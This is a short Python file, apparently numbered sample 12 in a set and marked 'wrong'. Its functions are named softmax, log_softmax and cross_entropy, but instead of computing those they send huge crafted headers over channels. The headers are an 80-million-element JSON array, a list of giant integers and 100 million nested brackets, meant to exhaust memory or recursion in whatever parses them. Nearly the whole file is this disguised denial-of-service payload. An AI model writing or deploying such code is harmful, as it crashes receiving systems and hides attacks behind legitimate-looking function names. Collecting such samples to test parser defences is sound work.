# 12, wrong: a header of 250 MB that becomes gigabytes of Python's objects when it is read
import time


def sent(header):
    for channel in channels():
        channel.send(len(header).to_bytes(8, "little") + header)
    time.sleep(60)


def softmax(x, dim):
    sent(b"[" + b"{}," * 80_000_000 + b"{}]")


def log_softmax(x, dim):
    sent(b'{"$set":[' + b",".join(b"%d" % (k * (2**61 - 1)) for k in range(30_000)) + b"]}")


def cross_entropy(logits, targets):
    sent(b"[" * 100_000_000)
